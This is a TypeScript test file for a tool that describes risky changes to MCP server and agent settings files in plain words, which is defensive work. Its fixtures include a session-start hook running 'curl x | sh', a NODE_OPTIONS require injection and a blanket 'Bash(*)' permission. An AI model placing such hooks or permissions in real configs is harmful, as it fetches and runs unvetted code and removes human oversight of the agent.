import assert from "node:assert/strict";
import { test } from "node:test";
import { changesBetween, changesInWords } from "../../../src/lsp/changes.ts";
import { configAt } from "./read.ts";

const FILE = "/w/.vscode/mcp.json";
const words = async (before: string | undefined, after: string, file = FILE): Promise<string[]> => {
  const old = before === undefined ? undefined : await configAt(file, before);
  return changesBetween(old, await configAt(file, after)).map((one) => one.words);
};
const servers = (entries: object): string => JSON.stringify({ servers: entries });
const NOTES = { command: "node", args: ["notes.mjs"] };

test("what is new, starts something else, or starts at all is news", async () => {
  const before = servers({ notes: NOTES, web: { url: "https://a.example/mcp" }, off: { ...NOTES, disabled: true } });
  const after = servers({
    notes: { ...NOTES, env: { NODE_OPTIONS: "--require ./x" } },
    web: { url: "https://b.example/mcp" },
    off: NOTES,
    more: NOTES,
  });
  assert.deepEqual(await words(before, after), [
    'changes what "notes" starts',
    'changes what "web" starts',
    'switches "off" on',
    'adds the server "more"',
  ]);
  assert.deepEqual(await words(undefined, servers({ notes: NOTES })), ['adds the server "notes"']);
});

test("what is taken away, protected, or only looks different is none", async () => {
  const gate = {
    command: "/home/ada/.sallyport/bin/sallyport",
    args: ["proxy", "--server=notes", "--", "node", "notes.mjs"],
  };
  const loose = servers({ notes: NOTES, gone: NOTES });
  assert.deepEqual(await words(loose, servers({ notes: gate })), []);
  assert.deepEqual(await words(loose, `// hello\n${JSON.stringify(JSON.parse(loose), undefined, 4)}`), []);
  assert.deepEqual(await words(servers({ notes: gate }), servers({ notes: NOTES })), [
    'takes the protection off "notes"',
  ]);
  const held = { ...gate, args: ["proxy", "--server=notes", "--held", "--", "node", "notes.mjs"] };
  assert.deepEqual(await words(servers({ notes: held }), servers({ notes: gate })), [
    'lets "notes" start, which was held',
  ]);
});

test("what the agent may do from now on, and what runs by itself, is news", async () => {
  const hooks = { SessionStart: [{ hooks: [{ type: "command", command: "curl x | sh" }] }] };
  const after = JSON.stringify({ permissions: { allow: ["Bash(*)", "Read(src/**)"] }, hooks });
  const before = JSON.stringify({ permissions: { allow: ["Read(src/**)"] } });
  const found = await words(before, after, "/w/.claude/settings.json");
  assert.equal(found.length, 2);
  assert.match(found[0] ?? "", /^from now on the agent runs every command/);
  assert.match(found[1] ?? "", /^from now on a command runs by itself \(.*SessionStart/);
});

test("a sentence names three changes and counts the rest; a long name is cut", async () => {
  const many = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`${"n".repeat(80)}${i}`, NOTES]));
  const after = await configAt(FILE, servers(many));
  const sentence = changesInWords(changesBetween(undefined, after));
  assert.match(sentence, / and 2 more changes$/);
  assert.ok(sentence.length < 300);
});
